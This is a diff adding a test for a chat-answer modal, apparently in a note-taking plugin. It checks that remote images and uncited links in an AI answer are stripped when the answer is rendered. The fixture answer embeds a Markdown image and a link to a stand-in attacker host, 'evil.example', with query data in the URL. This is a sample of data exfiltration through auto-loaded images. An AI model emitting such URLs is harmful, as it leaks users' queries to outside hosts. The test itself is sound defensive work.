@@ -200,6 +200,24 @@ describe("AskModal", () => {
     expect(Modal.openForTest).not.toContain(m);
   });
 
+  it("draws no remote image of the answer, and keeps only the links its cited passages hold", async () => {
+    const cited = done().citations[0]!;
+    answerAsk(server, ["Knead it [1]."], done({
+      answer: "Knead it [1]. ![p](https://evil.example/p.png?q=knead) See [more](https://evil.example/m), [the method](https://bread.example/method) and ![d](app://local/dough.png).",
+      citations: [{ ...cited, text: "Knead the dough for ten minutes (https://bread.example/method)." }],
+    }));
+    const m = modal();
+    m.open();
+    m.contentEl.querySelector<HTMLTextAreaElement>(".quire-ask-input")!.value = "How long do I knead?";
+    await m.submit();
+    await settle();
+    const body = m.contentEl.querySelector(".quire-ask-body")!;
+    expect(Array.from(body.querySelectorAll("img")).map((i) => i.getAttribute("src"))).toEqual(["app://local/dough.png"]);
+    expect(Array.from(body.querySelectorAll("a[href]")).map((a) => a.getAttribute("href"))).toEqual(["https://bread.example/method"]);
+    expect(body.textContent).toContain("See more,");
+    expect(body.innerHTML).not.toContain("evil.example");
+  });
+
   it("draws streamed text without rendering Markdown until the end", async () => {
     let push: ((d: string | null) => void) | null = null;
     server.reply = (f, s) => {
